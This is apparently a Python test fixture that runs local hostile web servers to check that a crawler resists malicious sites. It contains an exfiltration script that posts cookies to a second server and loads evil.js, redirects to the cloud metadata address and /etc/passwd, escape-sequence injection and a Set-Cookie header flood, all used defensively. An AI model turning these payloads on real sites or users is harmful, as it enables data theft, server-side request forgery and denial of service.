"""A local site that attacks the crawler, as a hostile advertiser would (issue 16), beside pages that must come through.

Servers on 127.0.0.1 (port 0), one ``HostileSite`` each:

- ``main``: a list page that sets a cookie and links local files (``file://``), other schemes,
  a page of escape sequences and non-characters, a 9.5 MB page of dense ads, a page with
  megabytes of ``Set-Cookie`` headers, redirects to the cloud metadata address and to
  ``localhost``, and a chain of list pages with thousands of links each; a page whose scripts
  try to reach another server; good detail pages.
- ``robots_big``, ``robots_slow``, ``robots_reset``: their robots.txt is too big, too slow, or
  reset; nothing else of theirs may be fetched.
- ``other``: a server no config names (the exfiltration target): its hits must stay at zero.

Every request is counted by path (``hits``) and whether it carried a cookie (``cookies``).
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cache
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

from tests.support.sample_server import serve_handlers

AD = "初中数学一对一上门辅导，{n}号老师，周末班火热招生，保证提分，电话1380000{n:04d}。"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\x85\ufffe\uffff\U0010ffff\x00"  # clear screen, set title, CSI, NEL, non-chars
BIG_PAGE_BYTES = 9_500_000
HEADER_FLOOD_BYTES = 4 * 1024 * 1024  # well past the 256 KB cap; the bench sends 110 MB
LINKS_PER_LIST = 5_000
ROBOTS_BIG_BYTES = 600 * 1024
ROBOTS_SLOW_SECONDS = 30.0  # never within the download_timeout (2 s in the tests), however loaded the machine
GOOD = ["/good/1.html", "/good/2.html", "/escape.html", "/big.html"]


def detail(n: int, title: str = "", body: str = "") -> bytes:
    title = title or f"数学辅导{n}"
    return (
        f"<html><head><meta charset='utf-8'><title>{n}</title></head><body><h1 class='t'>{title}</h1>"
        f"<div class='b'>{body or AD.format(n=n)}</div></body></html>"
    ).encode()


@cache
def big_page() -> bytes:
    """About 9.5 MB of dense ads in one detail page (under the 10 MB page limit)."""
    ads = "".join(AD.format(n=n % 10_000) for n in range(BIG_PAGE_BYTES // len(AD.format(n=0).encode())))
    return detail(99, "大量广告", ads)


def list_page(links: list[str], next_page: str | None = None) -> bytes:
    items = "".join(f"<li><a class='item' href='{link}'>{link}</a></li>" for link in links)
    more = f"<a class='next' href='{next_page}'>下一页</a>" if next_page else ""
    return f"<html><head><meta charset='utf-8'></head><body><ul>{items}</ul>{more}</body></html>".encode()


def exfiltrating_page(other: int) -> bytes:
    """A page whose scripts try to reach a server no config names; its own API call must still work."""
    script = f"""
      fetch('/api/own').then(r => r.text()).then(t => {{ document.getElementById('own').textContent = t; }});
      fetch('http://127.0.0.1:{other}/collect', {{method: 'POST', body: document.cookie + 'secret'}}).catch(() => {{}});
      navigator.sendBeacon('http://127.0.0.1:{other}/beacon', 'x');
      var s = document.createElement('script');
      s.src = 'http://127.0.0.1:{other}/evil.js';
      document.head.appendChild(s);
      var f = document.createElement('iframe');
      f.src = 'http://localhost:{other}/frame';
      document.body.appendChild(f);
    """
    return (
        "<html><head><meta charset='utf-8'></head><body><h1 class='t'>周末初中数学一对一</h1>"
        f"<div class='b'>老师上门辅导，保证提分<span id='own'></span></div><script>{script}</script></body></html>"
    ).encode()


class HostileSite:
    def __init__(self, kind: str) -> None:
        self.kind = kind
        self.ports: dict[str, int] = {}  # every server's port, filled in once all are bound
        self.hits: Counter[str] = Counter()
        self.cookies: Counter[str] = Counter()  # requests that carried a Cookie header, by path
        self.lock = threading.Lock()

    def seen(self, path: str, cookie: str | None) -> None:
        with self.lock:
            self.hits[path] += 1
            if cookie:
                self.cookies[path] += 1

    def route(self, path: str) -> tuple[int, list[tuple[str, str]], bytes] | str:
        """(status, headers, body), or the name of a special answer ('reset', 'flood')."""
        html = [("Content-Type", "text/html; charset=utf-8")]
        if self.kind == "robots_big" and path == "/robots.txt":
            return 200, [("Content-Type", "text/plain")], b"User-agent: *\nAllow: /\n" + b"#" * ROBOTS_BIG_BYTES
        if self.kind == "robots_slow" and path == "/robots.txt":
            time.sleep(ROBOTS_SLOW_SECONDS)
            return 200, [("Content-Type", "text/plain")], b"User-agent: *\nAllow: /\n"
        if self.kind == "robots_reset" and path == "/robots.txt":
            return "reset"
        if path == "/robots.txt":
            return 200, [("Content-Type", "text/plain")], b"User-agent: *\nAllow: /\n"
        if path == "/list/1.html" and self.kind != "main":
            return 200, html, list_page(["/good/1.html"])
        if path == "/list/1.html":
            main, other = self.ports["main"], self.ports["other"]
            links = [
                *GOOD,
                "/headers.html",
                "/redirect/metadata",
                "/redirect/file",
                f"file://127.0.0.1:{main}/etc/passwd",
                "file:///dev/zero",
                f"ftp://127.0.0.1:{other}/x",
                "data:text/html,<h1>x</h1>",
                f"http://localhost:{other}/offsite",
            ]
            return 200, [*html, ("Set-Cookie", "tw=planted; Path=/")], list_page(links, "/links/1.html")
        if path.startswith("/links/"):  # compact markup: 240,000 links stay under the 10 MB page limit
            number = int(path.split("/")[2].split(".")[0])
            links = "".join(f"<a class=item href=/many/{number}-{i}>.</a>" for i in range(LINKS_PER_LIST))
            return 200, html, f"<html><body>{links}<a class=next href=/links/{number + 1}.html>下一页</a>".encode()
        if path.startswith(("/good/", "/many/")):
            return 200, html, detail(sum(map(ord, path)) % 9000)
        if path == "/escape.html":
            return (
                200,
                [*html, ("X-Note", "\x1b]0;owned\x07\x1b[2J")],
                detail(7, f"初中一对一{ESCAPES}数学", f"{ESCAPES}{AD.format(n=7)}"),
            )
        if path == "/big.html":
            return 200, html, big_page()
        if path == "/headers.html":
            return "flood"
        if path == "/redirect/metadata":
            return 302, [("Location", "http://169.254.169.254/latest/meta-data/")], b""
        if path == "/redirect/file":
            return 302, [("Location", "file:///etc/passwd")], b""
        if path == "/redirect/localhost":
            return 302, [("Location", f"http://localhost:{self.ports['other']}/steal")], b""
        if path == "/render/exfil.html":
            return 200, html, exfiltrating_page(self.ports["other"])
        if path == "/api/own":
            return 200, [("Content-Type", "text/plain; charset=utf-8")], "寒假班".encode()
        return 404, html, b"not found"


def _handler(site: HostileSite) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            path = self.path.split("?")[0]
            site.seen(path, self.headers.get("Cookie"))
            page = site.route(path)
            try:
                if page == "reset":
                    self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                    self.close_connection = True
                elif page == "flood":
                    self.flood()
                else:
                    status, headers, body = page  # type: ignore[misc]
                    self.write(status, headers, body)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the crawler hung up, as it should on a flood

        def flood(self) -> None:
            """A 200 whose headers never end: Set-Cookie lines of 4 KB until HEADER_FLOOD_BYTES."""
            self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n")
            line = b"Set-Cookie: c=" + b"x" * 4000 + b"\r\n"
            for _ in range(HEADER_FLOOD_BYTES // len(line)):
                self.wfile.write(line)
            self.wfile.write(b"Content-Length: 2\r\n\r\nok")

        def write(self, status: int, headers: list[tuple[str, str]], body: bytes) -> None:
            self.send_response(status)
            for name, value in headers:
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            self.answer()

        def do_POST(self) -> None:
            self.answer()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Handler


KINDS = ("main", "robots_big", "robots_slow", "robots_reset", "other")
ROBOTS_HOSTS = ("robots_big", "robots_slow", "robots_reset")
CONFIG = """name: 恶意测试站
platform: tutoring
start_urls: [{starts}]
list:
  detail_links: "a.item::attr(href)"
  next_page: "a.next::attr(href)"
detail:
  title: "h1.t"
  body: "div.b"
politeness: {politeness}
{extra}"""
TEST_LIMITS = (
    "{download_delay: 0, concurrency: 4, download_timeout: 2, max_list_depth: 3,"
    " max_links_per_page: 100, max_queued: 150, max_pages: 500}"
)


def write_config(
    folder: Path, ports: dict[str, int], kinds: tuple[str, ...], extra: str = "", politeness: str = TEST_LIMITS
) -> Path:
    """``folder``/hostile_site.yaml: a config crawling the given servers (start at /list/1.html); returns ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    starts = ", ".join(f"http://127.0.0.1:{ports[kind]}/list/1.html" for kind in kinds)
    text = CONFIG.format(starts=starts, politeness=politeness, extra=extra)
    (folder / "hostile_site.yaml").write_text(text, encoding="utf-8")
    return folder


@contextmanager
def serve_hostile_sites() -> Iterator[tuple[dict[str, int], dict[str, HostileSite]]]:
    """Every hostile server on a free port; yields their ports and sites."""
    sites = {kind: HostileSite(kind) for kind in KINDS}
    with serve_handlers({kind: (0, _handler(site)) for kind, site in sites.items()}) as ports:
        for site in sites.values():
            site.ports = ports
        yield ports, sites
